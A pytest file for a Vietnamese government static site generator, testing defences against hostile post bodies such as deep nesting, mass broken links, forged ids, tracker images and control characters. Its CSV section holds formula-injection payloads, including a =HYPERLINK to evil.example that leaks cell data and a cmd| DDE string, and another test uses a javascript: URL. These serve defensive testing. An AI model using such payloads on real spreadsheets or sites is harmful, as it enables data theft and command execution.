"""Hostile post bodies and open data (issue 13): each input is built or converted, the outcome asserted.

Fixture sites live in ``tests/hostile/bodies-*/`` (site.yaml, content/, data/), with, as in
``tests/invalid/``, ``expected.txt`` (the problem lines the build prints, in order) and
``exit.txt`` (the exit code). Inputs too big to keep in the repository are made here.
"""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sys
from pathlib import Path

import pytest

from conftest import ROOT, copy_sample, problem_lines, run, soup, write
from site_generator import markup, opendata
from site_generator import urls as U

HOSTILE = Path(__file__).resolve().parent / "hostile"
NOW = "2026-01-01 00:00"
PATH, CONTENT_PATH, LINE = "content/tin-tuc/a.md", "tin-tuc/a.md", 5     # the body starts on line 5


def build(case: str, tmp_path: Path, *args: str):
    """Build the fixture site ``case`` (copied) into tmp_path/public: (process, output folder)."""
    site = tmp_path / case
    shutil.copytree(HOSTILE / case, site, ignore=shutil.ignore_patterns("expected.txt", "exit.txt"))
    out = tmp_path / "public"
    result = run("--site", str(site), "--output", str(out), "--now", NOW, "--no-cache", *args)
    assert "Traceback" not in result.stderr, result.stderr
    return result, out


def expected(case: str) -> tuple[int, list[str]]:
    folder = HOSTILE / case
    lines = [line for line in (folder / "expected.txt").read_text(encoding="utf-8").splitlines() if line.strip()]
    return int((folder / "exit.txt").read_text(encoding="utf-8")), lines


def links(posts: dict | None = None, assets=frozenset()) -> markup.Links:
    return markup.Links(U.Urls("https://example.gov.vn/"), posts or {}, frozenset(), {}, frozenset(assets))


def convert(body: str, converter: markup.Converter | None = None, **kw) -> markup.Body:
    return (converter or markup.Converter()).convert(PATH, CONTENT_PATH, body, LINE, kw.get("links") or links())


def codes(body: markup.Body) -> list[tuple[str, int]]:
    return [(p.code, p.line) for p in body.problems]


# ---------------------------------------------------------------- 1. depth

DEEP = [   # (name, body, problem code, line of the body where it is reported: 0 = the body's first)
    ("500 list markers on one line", "- " * 500 + "x\n", "body-too-deep", 0),
    ("500 quotes", "Mở đầu.\n\n" + "> " * 500 + "x\n", "body-too-deep", 2),
    ("500 quotes without spaces", ">" * 500 + "x\n", "body-too-deep", 0),
    ("300 numbered markers", "1. " * 300 + "x\n", "body-too-deep", 0),
    ("300 numbered markers with )", "1) " * 300 + "x\n", "body-too-deep", 0),
    ("mixed markers", "> - + * 1. " * 100 + "x\n", "body-too-deep", 0),
    ("lists nested by indentation, 300 lines", "".join("    " * i + "- a\n" for i in range(300)), "body-too-deep", 32),
    ("lists nested by tabs", "".join("\t" * i + "* a\n" for i in range(40)), "body-too-deep", 32),
    ("quotes growing one per line", "".join(">" * i + " a\n" for i in range(1, 1000)), "body-too-deep", 32),
    ("2000 nested brackets", "Đoạn.\n\n" + "[" * 2000 + "x" + "](a)" * 2000 + "\n", "body-brackets-too-deep", 2),
    ("10,000 brackets never closed", "[" * 10000 + "x\n", "body-brackets-too-deep", 0),
    ("a bracket left open on each of 40 lines", "".join("[mục\n" for _ in range(40)), "body-brackets-too-deep", 32),
    ("1000 nested images", "![" * 1000 + "x" + "](a.png)" * 1000 + "\n", "body-brackets-too-deep", 0),
    ("10,000 nested divs", "<div>" * 10000 + "x" + "</div>" * 10000 + "\n", "body-html-too-deep", 0),
    ("10,000 divs never closed", "Chữ.\n\n" + "<div>\n" * 10000, "body-html-too-deep", 34),
    ("10,000 nested spans", "a " + "<span>" * 10000 + "x" + "</span>" * 10000 + "\n", "body-html-too-deep", 0),
    ("20,000 self-closed divs (open in HTML)", "<div/>" * 20000 + "\n", "body-html-too-deep", 0),
    ("300 markdown=1 divs", '<div markdown="1">\n' * 300 + "x\n" + "</div>\n" * 300, "body-html-too-deep", 32),
    ("nested inline elements", "<b><i><u><em><strong>" * 20 + "x\n", "body-html-too-deep", 0),
]


@pytest.mark.parametrize("name,body,code,line", DEEP, ids=[case[0] for case in DEEP])
def test_deep_nesting_is_refused_before_conversion_at_its_line(name, body, code, line):
    result = convert(body)
    assert codes(result) == [(code, LINE + line)]
    assert result.problems[0].severity == "error"
    assert result.html == ""


SHALLOW = [   # what real posts do, at the limit or past it in a way that does not nest
    "- " * markup.MAX_DEPTH + "x\n",
    "> " * markup.MAX_DEPTH + "x\n",
    "".join("    " * i + "- a\n" for i in range(markup.MAX_DEPTH)),
    "[" * markup.MAX_DEPTH + "x" + "](a)" * markup.MAX_DEPTH + "\n",
    "<div>" * markup.MAX_DEPTH + "x" + "</div>" * markup.MAX_DEPTH + "\n",
    '<div markdown="1">\n\n' * markup.MAX_DEPTH + "> " * 16 + "- " * 16 + "x\n\n" + "</div>\n\n" * markup.MAX_DEPTH,
    "".join(f"[mục {i}]\n" for i in range(200)),                      # many brackets, each closed
    "".join(f"[mở {i}\n\n" for i in range(200)),                       # one open bracket per paragraph
    "<p>" * 200 + "<li>" * 200 + "<br>" * 200 + "<td>" * 200 + "x\n",   # elements that do not nest
    "Địa chỉ <https://e.gov.vn/a> và <thu@e.gov.vn>, " * 100 + "\n",   # autolinks are no HTML
    " " * 400 + "mã thụt lề sâu\n" + "\t" * 100 + "x\n",             # a code block, not nesting
    "Đoạn.\n\n" + "- " * 60 + "-\n\n" + "* " * 40 + "*\n",                 # rules drawn with spaces
    "*_" * 500 + "x" + "_*" * 500 + "\n",                             # emphasis: flat for Python-Markdown
    "\\[" * 100 + "\n",                                               # escaped brackets are text
]


@pytest.mark.parametrize("body", SHALLOW, ids=range(len(SHALLOW)))
def test_nesting_up_to_the_limit_converts(body):
    result = convert(body)
    assert result.problems == [] and result.html


def test_deep_fixture_site_reports_one_error_per_document_and_keeps_the_output(tmp_path):
    result, out = build("bodies-deep", tmp_path)
    code, lines = expected("bodies-deep")
    assert result.returncode == code, result.stderr
    assert problem_lines(result.stderr) == lines
    assert not out.exists()
    reported = {line.split(":", 1)[0] for line in lines}
    assert "content/tin-tuc/2025-01-09-nhan-manh.md" not in reported
    assert "content/tin-tuc/2025-01-10-vua-du.md" not in reported
    assert len(reported) == 8


def test_a_recursion_error_inside_markdown_is_the_documents_problem(monkeypatch):
    """Python-Markdown used to raise RecursionError on lists nested past our checks under a low limit; 3.11
    stops nesting near the limit by itself (util.nearing_recursion_limit), so no body reaches it any more. A
    version may still recurse somewhere else: a real RecursionError, raised by Python inside Markdown's inline
    stage, stays the document's problem."""
    from markdown import treeprocessors

    def endless(self, root):
        return endless(self, root)

    converter = markup.Converter()
    monkeypatch.setattr(treeprocessors.InlineProcessor, "run", endless)
    result = convert("".join("    " * i + "- a\n" for i in range(markup.MAX_DEPTH)), converter)
    monkeypatch.undo()                         # Markdown's own inline stage again, for the conversion below
    assert codes(result) == [("body-unconvertible", LINE)]
    assert dict(result.problems[0].params)["detail"] == "RecursionError"
    assert markup.failed(result)
    after = convert("## Bình thường\n\nĐoạn.\n", converter)     # the converter still works
    assert after.problems == [] and '<h2 id="binh-thuong">' in after.html


def test_an_exception_from_the_sanitiser_is_the_documents_problem_and_never_cached(monkeypatch):
    class Broken:
        def clean(self, fragment):
            raise ValueError("hỏng")

    monkeypatch.setattr(markup, "_cleaner", lambda: Broken())
    kept = {}

    class Cache:
        def get(self, key):
            return kept.get(key)

        def put(self, key, value):
            kept[key] = value

    job = (PATH, CONTENT_PATH, "Đoạn văn [có](b.md) liên kết.\n", LINE)
    bodies = markup.convert_all([job], links(), Cache(), 1)
    problems = bodies[PATH].problems
    assert [(p.code, p.line, dict(p.params)["detail"]) for p in problems] == [
        ("body-unconvertible", LINE, "ValueError: hỏng")]
    assert "hỏng" in problems[0].text() and problems[0].text().startswith(f"{PATH}:{LINE}: ")
    assert kept == {}


# ---------------------------------------------------------------- 2. many broken links

def test_twenty_thousand_broken_links_each_reported_at_its_line():
    count = 20000
    posts = {f"tin-tuc/bai-{i}.md": f"tin-tuc/bai-{i}/" for i in range(50)}
    lines = [f"Đoạn {i}: [liên kết {i}](bai-{i}x.md) và chữ." for i in range(count)]
    result = convert("\n\n".join(lines) + "\n", links=links(posts))
    broken = [p for p in result.problems if p.code == "broken-link"]
    assert len(broken) == count
    assert [p.line for p in broken] == [LINE + 2 * i for i in range(count)]
    assert [dict(p.params)["target"] for p in broken[:3]] == ["bai-0x.md", "bai-1x.md", "bai-2x.md"]
    suggested = [dict(p.params)["suggestion"] for p in broken]
    assert suggested[:markup.SUGGEST_MAX] == [f"bai-{i}.md" for i in range(markup.SUGGEST_MAX)]   # kept for the first
    assert set(suggested[markup.SUGGEST_MAX:]) == {""}                                           # then capped


def test_link_lines_match_the_first_line_that_names_them_in_ordinary_bodies():
    body = ("Mở đầu.\n\n[Kế hoạch](../thong-bao/ke-hoach.md) và ![ảnh](../files/thieu.png)\n\n"
            "| a | [b](khong-co.md) |\n|---|---|\n\n[tham chiếu][r] rồi [nữa][s]\n\n"
            "[^1]: Chú thích có [liên kết](chu-thich.md).\n\nCâu[^1].\n\n"
            "[s]: ../s.md\n[r]: ../r.md\n")
    result = convert(body)
    lines = body.split("\n")
    for found in result.problems:
        target = dict(found.params).get("target") or dict(found.params)["src"]
        first = next(i for i, text in enumerate(lines) if target in text)       # what line_of always did
        assert found.line == LINE + first, found
    assert sorted(p.code for p in result.problems) == ["broken-link"] * 5 + ["missing-file"]


@pytest.mark.parametrize("order", ["reversed", "shuffled"])
def test_reference_links_defined_in_any_order_are_reported_at_their_definitions(order):
    import random

    count = 3000
    numbers = list(reversed(range(count))) if order == "reversed" else random.Random(13).sample(range(count), count)
    body = ("".join(f"[liên kết {i}][r{i}] " for i in range(count)) + "\n\n"
            + "".join(f"[r{i}]: ../thong-bao/khong-co-{i}.md\n" for i in numbers))
    result = convert(body)
    where = {number: LINE + 2 + position for position, number in enumerate(numbers)}
    assert [(p.code, p.line) for p in result.problems] == [("broken-link", where[i]) for i in range(count)]


def _steps(body: str) -> int:
    """How many lines of Python converting ``body`` runs: a measure of its work that no clock or load changes."""
    converter, counted = markup.Converter(), [0]

    def trace(frame, event, arg):
        counted[0] += 1
        return trace

    convert("Khởi động.\n", converter)
    sys.settrace(trace)
    try:
        convert(body, converter)
    finally:
        sys.settrace(None)
    return counted[0]


@pytest.mark.parametrize("link", ["[liên kết {i}](../thong-bao/bai-{i}.md) ", "[liên kết {i}][r{i}] "])
def test_the_work_of_converting_links_grows_with_their_number_not_its_square(link):
    """Python-Markdown 3.11.4 scanned the whole paragraph again for every link (pyproject.toml leaves it out):
    four times the links must cost about four times the work."""
    def body(count: int) -> str:
        return ("".join(link.format(i=i) for i in range(count)) + "\n\n"
                + "".join(f"[r{i}]: ../thong-bao/bai-{i}.md\n" for i in range(count)))

    small, large = _steps(body(150)), _steps(body(600))
    assert large < 6 * small, (small, large)            # linear: about 4; quadratic: about 16


def test_the_same_broken_link_twice_is_reported_on_each_line():
    result = convert("[a](mat.md)\n\n[b](mat.md)\n")
    assert codes(result) == [("broken-link", LINE), ("broken-link", LINE + 2)]


# ---------------------------------------------------------------- 3. size

def test_a_body_over_512_kb_warns_and_is_converted():
    paragraph = "Nội dung dài của bài viết về cải cách hành chính.\n\n"      # mostly 2-3 bytes a letter
    body = paragraph * (markup.BODY_WARN_BYTES // len(paragraph.encode("utf-8")) + 1)   # fewer characters than bytes
    assert len(body) < markup.BODY_WARN_BYTES < len(body.encode("utf-8"))
    result = convert(body)
    assert codes(result) == [("body-large", LINE)]
    assert result.problems[0].severity == "warning"
    assert result.problems[0].text().startswith(f"{PATH}:{LINE}: cảnh báo: nội dung bài dài ")
    assert "(quá 512 KB)" in result.problems[0].text()
    assert result.html.count("<p>") == body.count("\n\n")


def test_a_body_over_4_mb_is_an_error_and_not_converted():
    body = "x" * markup.BODY_MAX_BYTES + "\n"
    result = convert(body)
    assert codes(result) == [("body-too-large", LINE)]
    assert result.problems[0].severity == "error"
    assert "nội dung bài dài 4,1 MB, vượt giới hạn 4 MB" in result.problems[0].text()
    assert result.html == "" and result.summary == ""
    assert convert("x" * markup.BODY_WARN_BYTES).problems == []                  # the limit itself is fine


# ---------------------------------------------------------------- 4. forged banners, classes, ids

def test_body_html_cannot_forge_banners_landmarks_or_the_pages_ids(tmp_path):
    result, out = build("bodies-forgery", tmp_path)
    code, lines = expected("bodies-forgery")
    assert result.returncode == code, result.stderr
    assert problem_lines(result.stderr) == lines
    for page in sorted((out / "tin-tuc").glob("*/index.html")):
        doc = soup(page)
        ids = [el["id"] for el in doc.find_all(id=True)]
        assert len(ids) == len(set(ids)), page
        prose = doc.find(class_="prose")
        classes = {c for el in prose.find_all(class_=True) for c in el["class"]}
        assert classes <= markup.ALLOWED_CLASSES | markup.MADE_CLASSES | {"language-python"}, page
        assert not [el for el in prose.find_all(role=True) if el.get("class") != ["bang"]]
        assert not prose.find_all(attrs={"tabindex": "-1"}) and not prose.find_all(["main", "nav", "section"])
        assert all(not markup._reserved_id(el["id"]) for el in prose.find_all(id=True))
        assert doc.find(id="noi-dung").name == "main"
        assert doc.find("a", class_="skip")["href"] == "#noi-dung"
        banners = doc.select(".banner, .banner-withdrawn, .banner-expired, .banner-draft")
        assert all(b.find_parent(class_="post-header") for b in banners)
    forged = soup(out / "tin-tuc" / "bai-co-html-gia-lam-thong-bao-chinh-thuc" / "index.html")
    prose = forged.find(class_="prose")
    assert [h["id"] for h in prose.find_all(["h2", "h3"])] == [
        "noi-dung_1", "tep-dinh-kem_1", "tep-1_1", "chan-trang-co-quan_1", "lap-lai", "lap-lai_1", "ket-qua"]
    assert forged.find(id="tep-dinh-kem").name == "h2" and forged.find(id="tep-1").find_parent(class_="attachments")
    assert forged.find(id="dinh-chinh").find_parent(class_="corrections")
    table = prose.find(class_="bang")
    assert table.table and table["role"] == "region" and table["tabindex"] == "0" and table["aria-label"] == "Bảng"
    assert prose.find("code")["class"] == ["language-python"]
    assert prose.find("sup", id="fnref-1").a["href"] == "#fn-1" and prose.find("li", id="fn-1")
    withdrawn = soup(out / "tin-tuc" / "bai-da-thu-hoi-that-than-bai-gia-them-mot-thong-bao" / "index.html")
    assert len(withdrawn.select(".banner-withdrawn")) == 1
    assert "Thay bằng thông báo khác." in withdrawn.select_one(".banner-withdrawn").get_text()


def test_cached_bodies_give_the_bytes_of_a_clean_build(tmp_path):
    """Ids are marked with a value random to each process: none of it may reach the output or the cache."""
    site = tmp_path / "site"
    shutil.copytree(HOSTILE / "bodies-forgery", site, ignore=shutil.ignore_patterns("expected.txt", "exit.txt"))
    pages = []
    for name, extra in (("clean", ["--no-cache"]), ("cold", []), ("warm", [])):
        result = run("--site", str(site), "--output", str(tmp_path / name), "--now", NOW, "--jobs", "1", *extra)
        assert result.returncode == 0, result.stderr
        pages.append({p.relative_to(tmp_path / name): p.read_bytes() for p in (tmp_path / name).rglob("*.html")})
    assert pages[0] == pages[1] == pages[2]
    assert not re.search(rb'="m[0-9a-f]{16}-', b"".join(pages[0].values()))


def test_every_id_of_the_templates_is_reserved():
    found = set()
    for template in sorted((ROOT / "site_generator" / "theme" / "templates").rglob("*.html")):
        found |= set(re.findall(r'\sid="([^"]+)"', template.read_text(encoding="utf-8")))
    found |= set(re.findall(r'\sid="([^"]+)"', (ROOT / "site_generator" / "serve.py").read_text(encoding="utf-8")))
    assert len(found) > 10
    for value in found:
        sample = re.sub(r"\{\{[^}]*\}\}", "1", value)
        assert markup._reserved_id(sample), value
        assert markup._heading_slug(sample.replace("-", " ")) != sample


def test_headings_like_the_reserved_id_patterns_are_renamed_and_the_body_converts():
    """A heading whose slug a reserved pattern matches ("Lãnh đạo UBND huyện" is lanh-dao-...) gets an
    id with "_1" that no pattern matches: renaming ends (it once looped for ever on the sample)."""
    links = markup.Links(U.Urls("https://example.gov.vn/"), {}, frozenset(), {}, frozenset())
    body = "\n\n".join(f"## {t}\n\nĐoạn." for t in ("Lãnh đạo UBND huyện", "Ngày 2025", "Năm 2025", "CM tháng 6",
                                                    "Tệp 3", "Lãnh đạo UBND huyện"))
    html = markup.Converter().convert("content/tin-tuc/a.md", "tin-tuc/a.md", body, 1, links).html
    ids = re.findall(r'\sid="([^"]+)"', html)
    assert ids[0] == "lanh-dao-ubnd-huyen_1" and len(set(ids)) == len(ids) == 6, ids
    assert not any(markup._reserved_id(i) for i in ids), ids


# ---------------------------------------------------------------- 5. images from elsewhere

def test_images_from_other_hosts_become_links_with_a_warning(tmp_path):
    result, out = build("bodies-images", tmp_path)
    code, lines = expected("bodies-images")
    assert result.returncode == code, result.stderr
    assert problem_lines(result.stderr) == lines
    page = soup(out / "tin-tuc" / "bai-co-anh-lay-tu-trang-khac" / "index.html")
    for img in page.find_all("img"):                     # what img-src 'self' lets load
        assert img["src"].startswith(("/", "https://example.gov.vn/")), img
    prose = page.find(class_="prose")
    links_to_images = {a["href"]: a.get_text() for a in prose.find_all("a")}
    assert links_to_images == {
        "https://bao.example.com/anh.jpg": "Ảnh từ báo",
        "http://cdn.example.net/a.png?w=800&h=600": markup.EXTERNAL_IMAGE_TEXT,
        "https://bao.example.com/bai-viet": "Ảnh trong liên kết",          # an image in a link: its text only
        "https://tracker.example.org/pixel.gif": markup.EXTERNAL_IMAGE_TEXT,
        "//tracker.example.org/p2.gif": markup.EXTERNAL_IMAGE_TEXT,
    }
    assert not prose.find("a").find("a")
    assert [img["src"] for img in prose.find_all("img")] == ["https://example.gov.vn/files/anh.png", "/files/anh.png"]
    feed = (out / "feed.xml").read_text(encoding="utf-8")              # feed readers load images too
    images = re.findall(r"&lt;img\b.*?&gt;", feed)
    assert len(images) == 2 and all('src="https://example.gov.vn/files/anh.png"' in i for i in images)
    assert '&lt;a href="https://bao.example.com/anh.jpg"&gt;' in feed
    assert page.find("meta", attrs={"name": "description"})["content"] == "Bài có ảnh của báo khác."


def test_data_images_are_refused_and_never_published(tmp_path):
    result, out = build("bodies-data-image", tmp_path)
    code, lines = expected("bodies-data-image")
    assert result.returncode == code
    assert problem_lines(result.stderr) == lines
    body = (HOSTILE / "bodies-data-image" / "content" / "tin-tuc" / "2025-02-01-anh-nhung.md").read_text("utf-8")
    converted = convert(body.split("\n---\n", 1)[1])
    assert "data:" not in converted.html
    assert [p.code for p in converted.problems] == ["data-image", "data-image"]


def test_odd_addresses_do_not_crash_and_load_nothing():
    result = convert("[a](http://[oops) ![b](http://[x/a.png) ![c](javascript:alert(1)) ![](ftp://e.vn/a.png)\n"
                     '<img src="http://[x/b.png" alt="d"> <img src=" HTTPS://Bao.Example.com/c.png " alt="e">\n')
    assert "javascript" not in result.html and "[x" not in result.html and "ftp:" not in result.html
    assert re.findall(r"<img[^>]*>", result.html) == [
        '<img alt="b" decoding="async" loading="lazy">', '<img alt="c" decoding="async" loading="lazy">',
        '<img alt="" decoding="async" loading="lazy">', '<img alt="d" loading="lazy" decoding="async">']   # no address left to load
    assert '<a href=" HTTPS://Bao.Example.com/c.png ">e</a>' in result.html
    assert codes(result) == [("image-no-alt", LINE), ("external-image", LINE + 1)]


# ---------------------------------------------------------------- 6. formulas in the open data CSV

def test_csv_cells_never_start_a_formula(tmp_path):
    result, out = build("bodies-csv", tmp_path)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO((out / "du-lieu" / "kiem-tra.csv").read_text(encoding="utf-8-sig"))))
    assert len(rows) == 2
    xuan, ha = rows
    assert xuan["subject"] == "'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Xem chi tiết\")"
    assert xuan["issues"].startswith("'@SUM(1+1)*cmd|")
    assert xuan["rating"] == "'+Đạt"
    assert xuan["conclusion"] == "'-2+3 Kết luận số 15/KL-UBND"
    assert ha["unit_name"] == "'@Tân Hà" and ha["issues"].startswith("'＝1+1")
    assert ha["rating"] == "-1"                                         # a number stays a number
    assert (xuan["signed"], xuan["published"], xuan["remedy_by"]) == ("2025-03-10", "2025-03-12", "2025-06-30")
    assert xuan["result_url"].startswith("https://example.gov.vn/") and xuan["inspection_id"] == "cchc-2025"
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r＝＋－＠" or re.fullmatch(r"-?[0-9]+", value), value
    data = json.loads((out / "du-lieu" / "kiem-tra.json").read_text(encoding="utf-8"))
    assert data["inspections"][0]["subject"].startswith("=HYPERLINK(")     # JSON is data, not a spreadsheet


@pytest.mark.parametrize("value,cell", [
    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("＝1", "'＝1"), ("-12", "-12"), ("+3,5", "+3,5"), ("2025-03-10", "2025-03-10"), ("", ""), (None, ""),
    ("Đạt", "Đạt"), ("a=b", "a=b"),
])
def test_csv_cell(value, cell):
    assert opendata.csv_cell(value) == cell


# ---------------------------------------------------------------- control characters pasted from Word

def test_control_characters_never_reach_the_html():
    """Word's manual line break (\\x0b), a page break, ESC, written raw or as references: words stay apart."""
    body = convert("Dòng một\x0bdòng hai\x0cba &#11;bốn\x1b năm &#x1b;sáu\x7f.\n")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", body.html), repr(body.html)
    assert "Dòng một dòng hai ba" in body.html and "bốn năm sáu." in body.html


def test_feeds_stay_well_formed_xml_whatever_the_text_holds(tmp_path):
    """A control character in a body, or in a title through a YAML escape, once made both feeds unreadable."""
    import xml.etree.ElementTree as ET
    site = copy_sample(tmp_path / "site")
    write(site / "content" / "tin-tuc" / "2026-11-20-ky-tu-la.md",
          '---\ntitle: "Thông báo \\e lịch \\x0b họp"\ndate: 2026-11-20 08:00\nsummary: "Tóm \\x1f tắt"\n---\n'
          "Nội dung\x0bdòng sau\x0c và &#8; thêm.\n")
    out = tmp_path / "public"
    result = run("--site", str(site), "--output", str(out), "--now", "2026-11-27 12:00")
    assert result.returncode == 0, result.stderr
    for feed in ("feed.xml", "tin-tuc/feed.xml"):
        root = ET.parse(out / feed).getroot()            # raises on a character XML forbids
        titles = [e.text for e in root.iter("{http://www.w3.org/2005/Atom}title")]
        assert "Thông báo  lịch   họp" in titles, titles     # ESC gone, the vertical tab a space
    page = (out / "tin-tuc" / "thong-bao-lich-hop" / "index.html").read_text(encoding="utf-8")
    assert "Nội dung dòng sau" in page and not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", page)
